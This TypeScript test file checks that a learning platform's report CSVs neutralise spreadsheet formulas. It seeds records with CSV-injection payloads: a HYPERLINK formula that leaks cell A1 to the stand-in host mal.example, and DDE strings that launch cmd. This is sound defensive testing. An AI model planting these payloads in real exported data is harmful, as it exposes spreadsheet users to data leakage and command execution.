import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { users } from '../db/schema/account.ts';
import { analyticsEvent } from '../db/schema/analytics.ts';
import { corretor } from '../db/schema/corretor.ts';
import { asset } from '../db/schema/dam.ts';
import { classroom, classroomSubscription, course, courseProgress, instrutor, trail, trailItem } from '../db/schema/lms.ts';
import { neutralizeFormula } from '../platform/csv/csv-formula.ts';
import { sqlCsvStream } from '../platform/reports/sql-csv.ts';
import { createTestApp, type TestApp } from '../test/test-app.ts';
import { REPORT_DEFINITIONS } from './report-definitions.ts';

/** Every text a person can type that reaches a report, each a formula a spreadsheet would run. */
const HOSTILE = {
  brokerName: '=HYPERLINK("http://mal.example/?d="&A1,"Clique aqui")',
  brokerEmail: '@SUM(1+1)*cmd|" /C calc"!A0',
  susep: '+A1*A2',
  celular: '-2+3',
  cpf: '=1+23456789',
  userName: '=cmd|" /C calc"!A0',
  uid: '-1+1',
  profile: '@perfil',
  assetTitle: '=1+1',
  courseTitle: '+Curso',
  presentialTitle: '=Oficina',
  trailTitle: '@Trilha',
  address: '\t=Rua B',
  instructor: '\r=Instrutor',
};

let t: TestApp;
/** The parameters of the reports that take some (a course's, a trail's): the hostile records above. */
const params: Record<string, Record<string, unknown>> = {};
const when = new Date('2026-10-07T12:00:00Z');

beforeAll(async () => {
  t = await createTestApp();
  const profileId = await t.createProfile({ modules: ['Dashboard'], title: HOSTILE.profile });
  const learner = await t.createUser({ profileId, name: HOSTILE.userName });
  await t.db.update(users).set({ uid: HOSTILE.uid }).where(eq(users.id, learner.id));
  await t.db.insert(corretor).values({
    user_id: learner.id,
    name: HOSTILE.brokerName,
    email: HOSTILE.brokerEmail,
    cpf: HOSTILE.cpf,
    susep: HOSTILE.susep,
    grupo: 340431,
    celular: HOSTILE.celular,
    role: 1,
    created_at: new Date('2026-09-01T12:00:00Z'),
  });
  const [media] = await t.db.insert(asset).values({ module_name: 'Media', title: HOSTILE.assetTitle }).returning({ id: asset.id });
  await t.db.insert(analyticsEvent).values([
    { kind: 'page_view', user_id: learner.id, path: '/home', occurred_at: when },
    { kind: 'asset_download', user_id: learner.id, asset_id: media.id, occurred_at: when },
  ]);
  const [online] = await t.db.insert(course).values({ type: 'online', title: HOSTILE.courseTitle }).returning({ id: course.id });
  await t.db.insert(courseProgress).values({ course_id: online.id, user_id: learner.id, progress: 40, started_at: when });
  const [path] = await t.db.insert(trail).values({ title: HOSTILE.trailTitle }).returning({ id: trail.id });
  await t.db.insert(trailItem).values({ trail_id: path.id, item_id: online.id, item_type: 'course', ordernum: 1 });
  params['course-in-progress'] = { course_id: online.id };
  params['trail-progress'] = { trail_id: path.id, status: 'Em andamento', inicio: '2026-01-01', fim: '2026-12-31' };
  const [presential] = await t.db.insert(course).values({ type: 'presential', title: HOSTILE.presentialTitle }).returning({ id: course.id });
  const [teacher] = await t.db.insert(instrutor).values({ nome: HOSTILE.instructor, cpf: '123.456.789-09' }).returning({ id: instrutor.id });
  const [room] = await t.db
    .insert(classroom)
    .values({ course_id: presential.id, instrutor_id: teacher.id, address: HOSTILE.address, datetime_start: when })
    .returning({ id: classroom.id });
  await t.db.insert(classroomSubscription).values({ classroom_id: room.id, user_id: learner.id, is_present: 1 });
});

afterAll(async () => {
  await t?.close();
});

async function reportCells(name: string): Promise<string[][]> {
  const definition = REPORT_DEFINITIONS.find((d) => d.name === name)!;
  const chunks: Buffer[] = [];
  const range = { from: new Date('2026-01-01T03:00:00Z'), to: new Date('2027-01-01T03:00:00Z') };
  const query = definition.params ? definition.query(range, definition.params.parse(params[name] ?? {})) : definition.query(range);
  for await (const chunk of sqlCsvStream(t.database.driver, query)) chunks.push(Buffer.from(chunk as Buffer));
  return (parse(Buffer.concat(chunks).toString('utf8'), { delimiter: ';', bom: true }) as string[][]).slice(1);
}

describe('report CSVs written by the database neutralise formulas', () => {
  it.each(REPORT_DEFINITIONS.map((d) => d.name))('%s: no cell is left for a spreadsheet to run', async (name) => {
    const records = await reportCells(name);
    expect(records.length).toBeGreaterThan(0);
    for (const cell of records.flat()) expect(neutralizeFormula(cell), JSON.stringify(cell)).toBe(cell);
  });

  it('lista-corretores carries the broker as typed, behind a quote; numbers, dates and labels as before', async () => {
    const [record] = await reportCells('lista-corretores');
    expect(record.slice(1)).toEqual([
      `'${HOSTILE.brokerName}`,
      `'${HOSTILE.brokerEmail}`,
      `'${HOSTILE.cpf}`,
      `'${HOSTILE.susep}`,
      'SUSEP',
      `'${HOSTILE.celular}`,
      'Funcionário',
      '01/09/2026 09:00',
    ]);
    expect(record[0]).toMatch(/^\d+$/);
  });

  it('turmas-presenciais and report_download quote titles, addresses, people and profiles', async () => {
    const [classRecord] = await reportCells('turmas-presenciais');
    expect(classRecord.slice(1)).toEqual([
      `'${HOSTILE.presentialTitle}`,
      '07/10/2026 09:00',
      '',
      `'${HOSTILE.address}`,
      `'${HOSTILE.instructor}`,
      `'${HOSTILE.userName}`,
      `'${HOSTILE.uid}`,
      'Concluído',
    ]);
    const [download] = await reportCells('report_download');
    expect(download.filter((_, i) => i !== 1)).toEqual([
      '07/10/2026 09:00',
      `'${HOSTILE.assetTitle}`,
      `'${HOSTILE.userName}`,
      `'${HOSTILE.uid}`,
      `'${HOSTILE.profile}`,
    ]);
  });
});
